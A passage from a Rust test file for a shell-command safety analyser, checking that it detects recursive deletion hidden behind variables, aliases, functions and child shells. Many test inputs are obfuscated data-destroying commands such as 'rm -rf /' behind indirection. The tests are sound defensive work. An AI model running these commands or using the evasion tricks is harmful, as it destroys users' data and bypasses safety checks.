        assert!(a.commands.iter().any(|c| c.is("ls")), "{line}");
    }
}

#[test]
fn unset_clears_a_variable() {
    let a = clean("c=rm; unset c; $c -rf /");
    assert!(!deletes_recursively(&a, "/"));
    assert!(!a.is_opaque());
}

#[test]
fn an_assignment_that_may_not_run_adds_its_value_to_the_ones_before() {
    for line in [
        "c=ls; false && c=rm; $c -rf /",
        "c=ls; if false; then c=rm; fi; $c -rf /",
        "c=ls; c+=x; c=rm; $c -rf /",
    ] {
        let a = clean(line);
        assert!(deletes_recursively(&a, "/"), "{line}");
    }
    let a = clean("c=ls; true || c=rm; $c -rf /");
    assert!(a.commands.iter().any(|c| c.is("ls")));
}

#[test]
fn a_variable_assigned_by_what_the_analysis_cannot_follow_is_opaque() {
    for line in [
        "c=ls; read c; $c -rf /",
        "c=ls; for c in rm; do $c -rf /; done",
        "c=ls; while true; do $c -rf /; c=rm; done",
        "c=ls; c+=m; $c -rf /",
        "c=ls; source ./env; $c -rf /",
        "c=ls; : ${c:=rm}; $c -rf /",
        "c=$(cat f); $c -rf /",
        "c=ls; printf -v c rm; $c -rf /",
    ] {
        let a = clean(line);
        assert!(
            a.opaque
                .iter()
                .any(|o| o.kind == OpaqueKind::ComputedProgram),
            "{line}: {:?}",
            a.commands
        );
    }
}

#[test]
fn a_child_shell_sees_only_exported_variables() {
    assert!(deletes_recursively(
        &clean("export X=rm; bash -c '$X -rf /'"),
        "/"
    ));
    assert!(deletes_recursively(
        &clean("X=rm; export X; sh -c '$X -rf /'"),
        "/"
    ));
    let a = clean("X=rm; bash -c '$X -rf /'");
    assert!(!deletes_recursively(&a, "/"));
    assert!(a.is_opaque());
}

#[test]
fn an_alias_defined_earlier_is_expanded() {
    for line in [
        "alias x='rm -rf /'; x",
        "alias x=rm; x -rf /",
        "alias x='true; rm -rf'; x /",
        "alias a=ls x='rm -rf /'; x",
    ] {
        let a = clean(line);
        assert!(deletes_recursively(&a, "/"), "{line}: {:?}", a.commands);
    }
    let a = clean("alias x='rm -rf /'; unalias x; x");
    assert!(!deletes_recursively(&a, "/"));
    assert_eq!(programs(&a).last(), Some(&"x"));
}

#[test]
fn an_alias_of_text_that_is_not_literal_is_opaque() {
    let a = clean("alias x=\"$(cat f)\"; x /");
    assert!(
        a.opaque
            .iter()
            .any(|o| o.kind == OpaqueKind::ComputedProgram)
    );
}

#[test]
fn a_function_body_is_flattened_again_where_it_is_called() {
    let a = clean("f() { $c -rf /; }; c=rm; f");
    assert!(deletes_recursively(&a, "/"));
    let call = a.commands.iter().position(|c| c.is("f")).unwrap();
    let rm = a.commands.iter().position(|c| c.is("rm")).unwrap();
    assert_eq!(a.commands[rm].origin, Origin::Function);
    assert_eq!(a.commands[rm].parent, Some(call));
    let a = clean("f() { rm -rf /; }; unset -f f; c=1");
    assert_eq!(a.commands.iter().filter(|c| c.is("rm")).count(), 1);
}

#[test]
fn a_function_calling_itself_is_not_followed_again() {
    let a = clean("f() { f; f; }; f");
    assert!(a.opaque.iter().any(|o| o.kind == OpaqueKind::TooDeep));
    assert!(a.commands.len() < 10, "{}", a.commands.len());
}

#[test]
fn function_calls_are_followed_only_so_many_times() {
    let mut line = String::from("g() { rm -rf /tmp/x; }; f() { g; g; g; g; g; g; g; g; }; ");
    line.push_str(&"f; ".repeat(40));
    let a = clean(&line);
    assert!(a.opaque.iter().any(|o| o.kind == OpaqueKind::TooDeep));
    assert!(a.commands.len() < 400, "{}", a.commands.len());
}
